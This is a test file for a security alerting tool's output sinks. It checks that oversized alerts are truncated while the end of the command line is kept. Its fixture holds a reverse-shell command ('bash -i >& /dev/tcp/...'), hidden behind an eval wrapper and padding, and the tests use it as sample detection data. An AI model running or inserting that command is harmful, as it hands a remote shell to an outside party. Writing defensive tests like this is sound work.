import dgram from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { fitDocument } from '../../src/outputs/fit-document.js';
import { SyslogSink } from '../../src/outputs/syslog-sink.js';

/** An alert on `bash -c 'eval "$2"' _ <padding> <payload>`: the payload sits at the very end. */
function hugeAlert(): Record<string, unknown> {
  const args = ['bash', '-c', 'eval "$2"', '_', 'x'.repeat(120_000), ...Array.from({ length: 3000 }, (_, i) => `pad${i}`), 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'];
  return {
    '@timestamp': '2026-11-30T00:00:00.000Z',
    message: `Reverse shell: ${args.join(' ')}`,
    event: { kind: 'alert', severity: 73 },
    rule: { id: 'r1', name: 'Reverse shell' },
    process: { pid: 42, name: 'bash', args, args_count: args.length, command_line: args.join(' ') },
  };
}

describe('fitDocument', () => {
  it('leaves a document that fits alone', () => {
    const doc = { a: 'short', b: ['x'] };
    expect(fitDocument(doc, 1000)).toEqual({ json: '{"a":"short","b":["x"]}', doc, shortened: false });
  });

  it('shortens the largest fields, keeping head and tail, and says so', () => {
    const doc = hugeAlert();
    const before = JSON.stringify(doc);
    const { json, shortened } = fitDocument(doc, 56_000);
    expect(shortened).toBe(true);
    expect(Buffer.byteLength(json)).toBeLessThanOrEqual(56_000);
    expect(JSON.stringify(doc)).toBe(before); // the caller's document is untouched
    const fitted = JSON.parse(json) as { process: { args: string[]; command_line: string; args_count: number }; message: string; execwarden: { output: { shortened: string[]; original_bytes: number } } };
    expect(fitted.execwarden.output.shortened).toEqual(expect.arrayContaining(['process.args', 'process.command_line', 'message']));
    expect(fitted.execwarden.output.original_bytes).toBe(Buffer.byteLength(before));
    // The payload at the end survives in every shortened field, and the cut is marked.
    for (const text of [fitted.message, fitted.process.command_line, fitted.process.args.join(' ')]) {
      expect(text).toContain('/dev/tcp/203.0.113.9/4444');
      expect(text).toMatch(/…\[execwarden: \d+ (characters|elements) cut\]/);
    }
    expect(fitted.process.args[0]).toBe('bash');
    expect(fitted.process.args_count).toBe(3006); // the count is not shortened
  });

  it('fits very small limits too, as far as the document allows', () => {
    const { json } = fitDocument(hugeAlert(), 4_000);
    expect(Buffer.byteLength(json)).toBeLessThanOrEqual(4_000);
  });
});

describe('syslog over UDP with an alert larger than a datagram', () => {
  it('delivers it shortened instead of dropping it', async () => {
    const server = dgram.createSocket('udp4');
    const received: string[] = [];
    server.on('message', (message) => received.push(message.toString('utf8')));
    await new Promise<void>((resolve) => server.bind(0, '127.0.0.1', resolve));
    const port = (server.address() as AddressInfo).port;
    const sink = new SyslogSink({ transport: 'udp', host: '127.0.0.1', port, retry: { retries: 0 } });
    try {
      await sink.start();
      sink.write(hugeAlert());
      await sink.close(2_000);
      expect(sink.stats()).toMatchObject({ written: 1, dropped: 0 });
      expect(received).toHaveLength(1);
      const json = JSON.parse(received[0]!.slice(received[0]!.indexOf('{'))) as { execwarden: { output: { shortened: string[] } } };
      expect(json.execwarden.output.shortened.length).toBeGreaterThan(0);
    } finally {
      server.close();
    }
  });
});

describe('stdout into the journal', () => {
  it('knows the journal stream by JOURNAL_STREAM and keeps NDJSON lines under its LineMax', async () => {
    const { StdoutSink, isJournalStream, JOURNAL_LINE_MAX_BYTES } = await import('../../src/outputs/stdout-sink.js');
    const { fstatSync } = await import('node:fs');
    const { PassThrough } = await import('node:stream');
    const stat = fstatSync(1);
    expect(isJournalStream(1, { JOURNAL_STREAM: `${stat.dev}:${stat.ino}` })).toBe(true);
    expect(isJournalStream(1, { JOURNAL_STREAM: '1:2' })).toBe(false);
    expect(isJournalStream(1, {})).toBe(false);

    const stream = new PassThrough();
    let text = '';
    stream.on('data', (chunk: Buffer) => (text += chunk.toString()));
    const sink = new StdoutSink({ stream, maxLineBytes: JOURNAL_LINE_MAX_BYTES });
    await sink.start();
    sink.write(hugeAlert());
    await sink.close(2_000);
    const lines = text.split('\n').filter(Boolean);
    expect(lines).toHaveLength(1);
    expect(Buffer.byteLength(lines[0]!)).toBeLessThanOrEqual(JOURNAL_LINE_MAX_BYTES);
    expect(lines[0]).toContain('/dev/tcp/203.0.113.9/4444');
  });
});
